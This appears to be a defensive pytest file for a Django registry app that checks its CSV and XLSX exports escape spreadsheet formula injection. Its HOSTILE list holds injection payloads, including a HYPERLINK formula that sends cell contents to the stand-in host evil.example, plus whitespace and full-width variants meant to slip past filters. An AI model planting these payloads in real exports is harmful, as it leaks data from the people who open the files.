"""No file the project writes for a spreadsheet holds a formula (CSV or formula injection).

Text typed by staff or imported from a registry extract — a category, an agency, a DTKS id,
a head's name, a code in an extract — reaches CSV and XLSX files that supervisors open in
Excel or LibreOffice. Each writer is walked here with hostile values; no cell may start with
a formula character, and a new writer that does not use `slrt.spreadsheets` fails the last test.
"""

import csv
import io
import pathlib
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from accounts.roles import Role
from complaints.models import ComplaintCategory
from households.models import RegistryImport
from programs.models import Agency
from programs.screening import COLUMNS, screening_write_csv
from referrals.services import referrals_create
from slrt.spreadsheets import spreadsheet_safe, starts_a_formula
from tests.factories import staff_user
from tests.households.test_import_dtks import HEADER, ROWS

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+62 812 cmd",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    # Read as formulas by programs that trim spaces before a cell, or take full-width signs.
    '  =HYPERLINK("https://evil.example/?"&A1,"klik")',
    "\n=1+1",
    "\u3000=1+1",
    '＝HYPERLINK("https://evil.example/?"&A1,"klik")',
    "＋62 812 cmd",
    "＠SUM(A1:A9)",
]
ROOT = pathlib.Path(__file__).resolve().parent.parent


def assert_no_formula(cells: list) -> None:
    starting = [cell for cell in cells if isinstance(cell, str) and starts_a_formula(cell)]
    assert starting == []


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [value for row in sheet.iter_rows(values_only=True) for value in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_would_start_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe("Dinas Sosial") == "Dinas Sosial"
    assert spreadsheet_safe(None) == ""


@pytest.fixture
def hostile_records(assessed, back_office, catalogue):
    """A complaint of a hostile category, referred to an agency with a hostile name, of a
    household whose DTKS id and decile source are hostile."""
    category = ComplaintCategory.objects.get(code="kesehatan-pbi")
    ComplaintCategory.objects.filter(pk__in=[category.pk, category.parent_id]).update(
        name=HOSTILE[0]
    )
    complaint = assessed()
    household = complaint.household
    household.dtks_id, household.desil_source = HOSTILE[2], HOSTILE[3]
    household.save()
    Agency.objects.filter(pk=catalogue["BPNT"].agency_id).update(name=HOSTILE[1])
    referrals_create(actor=back_office, complaint=complaint, programs=[catalogue["BPNT"]])
    return complaint


@pytest.mark.parametrize("kind", ["complaints", "referrals", "households"])
def test_the_list_exports_hold_no_formula(hostile_records, as_user, kind):
    client = as_user(staff_user(Role.SUPERVISOR, scope="52.72"))

    response = client.post(reverse("reports:export", args=[kind]), {"purpose": "supervision"})

    text = b"".join(response.streaming_content).decode("utf-8")
    cells = csv_cells(text)
    assert any(cell.startswith("'") for cell in cells)  # the hostile value is in the file
    assert_no_formula(cells)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_monthly_report_holds_no_formula(hostile_records, as_user, kind):
    client = as_user(staff_user(Role.SUPERVISOR, scope="52.72"))

    response = client.get(reverse("reports:monthly"), {"format": kind})

    assert response.status_code == 200
    cells = (
        csv_cells(response.content.decode("utf-8"), delimiter=";")  # for Indonesian settings
        if kind == "csv"
        else (xlsx_cells(response.content))
    )
    assert "'" + HOSTILE[0] in cells
    assert_no_formula(cells)


def test_the_screening_csv_holds_no_formula():
    row = dict.fromkeys(COLUMNS, HOSTILE[0])
    rows = [{**row, key: value} for key, value in zip(COLUMNS, HOSTILE * 3, strict=False)]
    out = io.StringIO()

    screening_write_csv(iter(rows), out)

    assert_no_formula(csv_cells(out.getvalue()))


def hostile_extract() -> str:
    bad_code = ROWS[0].replace("52.72.01.1001", "=1+1")  # "=1+1 is not a village code."
    fields = ROWS[1].split(";")
    fields[15] = "@SUM(A1)"  # floor_material: "@SUM(A1) is not one of the registry's codes"
    return "\ufeff" + "\n".join([HEADER, bad_code, ";".join(fields)]) + "\n"


@pytest.mark.usefixtures("kota_bima")
def test_the_import_error_report_holds_no_formula(as_user, django_capture_on_commit_callbacks):
    client = as_user(staff_user(Role.SUPERVISOR, scope="52.72"))
    upload = SimpleUploadedFile("dtks.csv", hostile_extract().encode(), content_type="text/csv")

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("households:imports"), {"file": upload})
    registry_import = RegistryImport.objects.get()
    download = client.get(reverse("households:import_errors", args=[registry_import.pk]))

    cells = csv_cells(b"".join(download.streaming_content).decode("utf-8"))
    assert any(cell.startswith("'=1+1") for cell in cells)
    assert any(cell.startswith("'@SUM(A1)") for cell in cells)
    assert_no_formula(cells)


@pytest.mark.usefixtures("kota_bima")
def test_the_import_commands_error_report_holds_no_formula(tmp_path):
    extract = tmp_path / "dtks.csv"
    extract.write_text(hostile_extract(), encoding="utf-8")
    report = tmp_path / "errors.csv"

    call_command("import_dtks", str(extract), errors=str(report), stdout=io.StringIO(),
                 stderr=io.StringIO())  # fmt: skip

    cells = csv_cells(report.read_text(encoding="utf-8"))
    assert any(cell.startswith("'=1+1") for cell in cells)
    assert_no_formula(cells)


# The national registry's own extract format, which `generate_households` writes for the
# importer to read back (synthetic data, never personal data shown to a reader): escaping it
# would change the values on the way back in.
REGISTRY_FORMAT_WRITERS = {"households/registry_import/writer.py"}


def test_every_csv_and_xlsx_writer_goes_through_the_spreadsheet_helper():
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/")) or relative in {
            "slrt/spreadsheets.py",
            *REGISTRY_FORMAT_WRITERS,
        }:
            continue
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(f"{relative}: {match.group()}")
        if "openpyxl" in text and "xlsx_append" not in text:
            offenders.append(f"{relative}: openpyxl without xlsx_append")
        if "openpyxl" in text and re.search(r"sheet\.append\(\[(?!\])", text):
            offenders.append(f"{relative}: sheet.append of cells")
    assert offenders == []
